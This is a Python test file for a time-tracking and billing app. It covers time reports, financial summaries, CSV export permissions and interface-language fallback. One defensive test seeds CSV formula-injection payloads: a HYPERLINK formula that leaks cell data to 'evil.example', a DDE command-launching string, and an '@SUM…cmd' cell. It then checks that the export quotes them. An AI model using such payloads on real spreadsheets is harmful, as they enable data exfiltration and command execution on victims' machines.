"""Reports (time report, CSV export), financial figures and interface languages."""

import csv
import io
from decimal import Decimal

from clientela.organizations.models import Organization
from clientela.people.models import User
from clientela.projects.models import Project
from clientela.tasks.models import Task, TimeEntry


async def _timesheet(world):
    """Two projects at different rates; entries on, just inside and just outside November."""
    cheap = await Project.create(workspace_id=world.admin.user.workspace_id, name="Cheap", client=world.acme, hourly_rate=Decimal("33.33"))
    task = await Task.create(workspace_id=world.admin.user.workspace_id, project=cheap, title="Cheap work")
    for date, minutes, billable in [("2026-10-31", 600, True), ("2026-11-01", 20, True), ("2026-11-30", 40, False), ("2026-12-01", 600, True)]:
        await TimeEntry.create(task=task, user=world.staff.user, minutes=minutes, date=date, billable=billable)
    return cheap


async def test_time_report_covers_both_boundary_days_and_bills_each_rate(api, world):
    await _timesheet(world)
    report = (await api("TimeReport", {"from": "2026-11-01", "to": "2026-11-30"}, token=world.owner.token)).ok()["timeReport"]
    rows = {(r["project"]["name"], r["user"]["name"]): (r["minutes"], r["billed"]["amount"]) for r in report["rows"]}
    # Cheap: 60 minutes in range, of which 20 billable at 33.33 = 11.11; Acme site: 90 at 60.00 = 90.00.
    assert rows == {("Cheap", "Sam Staff"): (60, "11.11"), ("Acme site", "Sam Staff"): (90, "90.00")}
    assert report["totalMinutes"] == 150
    bad = await api("TimeReport", {"from": "2026-11-30", "to": "2026-11-01"}, token=world.owner.token)
    assert bad.code == "BAD_USER_INPUT"


async def test_the_total_counts_every_row_also_beyond_those_shown(api, world, monkeypatch):
    from clientela.reports import services as reports

    await _timesheet(world)
    monkeypatch.setattr(reports, "ROOT_LIST_LIMIT", 1)  # the list is cut at the first row
    report = (await api("TimeReport", {"from": "2026-11-01", "to": "2026-11-30"}, token=world.owner.token)).ok()["timeReport"]
    assert len(report["rows"]) == 1 and report["totalMinutes"] == 150


async def test_financial_summary_adds_exact_budgets_and_billed_amounts_over_rates(api, world):
    await _timesheet(world)
    await Project.filter(name="Cheap").update(budget=Decimal("0.10"))
    await Project.filter(id=world.acme_project.id).update(budget=Decimal("0.20"))
    summary = (await api("OrganizationPage", {"id": str(world.acme.id)}, token=world.admin.token)).ok()["organization"]["financialSummary"]
    # Billed: Cheap 1220 billable minutes at 33.33 (677.71) + Acme site 90 at 60.00 (90.00).
    assert summary == {
        "projectCount": 2,
        "budget": {"amount": "0.30", "currency": "USD"},
        "billed": {"amount": "767.71", "currency": "USD"},
    }


async def test_csv_export_streams_the_report_and_refuses_clients_and_anonymous(api, world):
    await _timesheet(world)
    url = "/reports/time.csv?from=2026-11-01&to=2026-11-30"
    response = await api.client.get(url, headers={"Authorization": f"Bearer {world.admin.token}"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["date", "project", "person", "minutes", "billable", "billed", "note"]
    assert sorted((r[0], r[1], r[3], r[5]) for r in rows[1:]) == [
        ("2026-11-01", "Cheap", "20", "11.11"),
        ("2026-11-02", "Acme site", "90", "90.00"),
        ("2026-11-02", "Globex audit", "90", "90.00"),
        ("2026-11-02", "Internal tooling", "90", "90.00"),
        ("2026-11-30", "Cheap", "40", ""),
    ]
    assert (await api.client.get(url)).status_code == 401
    refused = await api.client.get(url, headers={"Authorization": f"Bearer {world.client.token}"})
    assert refused.status_code == 403 and refused.json()["code"] == "FORBIDDEN"
    assert (await api.client.get("/reports/time.csv?from=yesterday&to=2026-11-30", headers={"Authorization": f"Bearer {world.admin.token}"})).status_code == 400


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(api, world):
    formula = '=HYPERLINK("https://evil.example/?d="&C2,"x")'
    project = await Project.create(workspace_id=world.admin.user.workspace_id, name="+cmd|' /C calc'!A0", hourly_rate=Decimal("60.00"))
    task = await Task.create(workspace_id=world.admin.user.workspace_id, project=project, title="T")
    await User.filter(id=world.staff.user.id).update(name="@SUM(1+1)*cmd")
    await TimeEntry.create(task=task, user=world.staff.user, minutes=30, date="2026-11-03", billable=True, note=formula)
    url = "/reports/time.csv?from=2026-11-03&to=2026-11-03"
    response = await api.client.get(url, headers={"Authorization": f"Bearer {world.admin.token}"})
    [header, row] = list(csv.reader(io.StringIO(response.text)))
    assert row == ["2026-11-03", "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd", "30", "yes", "30.00", "'" + formula]


async def test_effective_language_falls_back_from_person_to_organization_to_workspace(api, factory):
    admin = await factory.workspace(language="ru")
    acme = await factory.organization(admin, "Acme")
    person = await factory.person(admin, acme)

    async def language():
        return (await api("Viewer", token=person.token)).ok()["viewer"]["language"]

    assert await language() == "ru"
    await Organization.filter(id=acme.id).update(language="es")
    assert await language() == "es"
    await User.filter(id=person.user.id).update(language="pt")
    assert await language() == "pt"
    result = await api("UpdateOrganization", {"id": str(acme.id), "input": {"language": "xx-YY"}}, token=admin.token)
    assert result.code == "BAD_USER_INPUT"
    assert (await Organization.get(id=acme.id)).language == "es"
